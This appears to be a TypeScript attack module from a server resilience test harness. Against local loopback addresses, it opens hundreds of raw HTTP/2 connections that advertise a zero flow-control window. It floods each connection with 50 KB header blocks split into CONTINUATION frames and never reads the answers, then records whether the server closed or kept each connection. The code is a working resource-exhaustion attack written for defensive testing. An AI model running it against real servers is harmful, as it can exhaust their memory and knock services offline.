import { setTimeout as sleep } from 'node:timers/promises';
import { END_HEADERS, END_STREAM, H2_PREFACE, h2Frame, h2Headers } from '@activescale/devkit';
import type { ApiTarget, Attack } from '../lib/assault.ts';
import { connectRaw, type RawConnection } from '../lib/raw-connection.ts';

/** SETTINGS_INITIAL_WINDOW_SIZE = 0 (RFC 9113, 6.5.2): the server may not answer with a byte of data. */
const NO_WINDOW = h2Frame('settings', 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
const ADDRESSES = 4;
const CONNECTIONS = 90;
const REQUESTS = 90;
const FIELDS = 400;
const FRAME_BYTES = 16_384;

/** HEADERS and CONTINUATION of a request with some 50 KB of headers. */
function largeRequest(stream: number): Buffer {
  const large = Array.from({ length: FIELDS }, (_, i) => [`x-${i}`, 'v'.repeat(118)]);
  const block = h2Headers({
    ':method': 'GET',
    ':scheme': 'https',
    ':path': '/apis/x',
    ':authority': 'api',
    ...Object.fromEntries(large),
  });
  const frames: Buffer[] = [];
  for (let at = 0; at < block.length; at += FRAME_BYTES) {
    const isLast = at + FRAME_BYTES >= block.length;
    const flags = (at === 0 ? END_STREAM : 0) | (isLast ? END_HEADERS : 0);
    const type = at === 0 ? 'headers' : 'continuation';
    frames.push(h2Frame(type, flags, stream, block.subarray(at, at + FRAME_BYTES)));
  }
  return Buffer.concat(frames);
}

/** Large requests from four pods whose answers are never read. */
export const unreadAnswers: Attack<ApiTarget> = {
  name: 'unread-answers',
  seconds: 10,
  async run({ target, signal, got }) {
    const held: RawConnection[] = [];
    for (let n = 0; n < ADDRESSES * CONNECTIONS && !signal.aborted; n++) {
      const from = `127.0.0.${70 + (n % ADDRESSES)}`;
      const raw = await connectRaw({ port: target.securePort, from, alpn: 'h2' });
      held.push(raw);
      await raw.write(Buffer.concat([H2_PREFACE, NO_WINDOW]));
      for (let i = 0; i < REQUESTS && !raw.closed && !signal.aborted; i++)
        await raw.write(largeRequest(2 * i + 1));
    }
    while (!signal.aborted) await sleep(50);
    for (const raw of held) {
      got(raw.closed ? 'connection closed' : 'connection kept');
      raw[Symbol.dispose]();
    }
  },
};
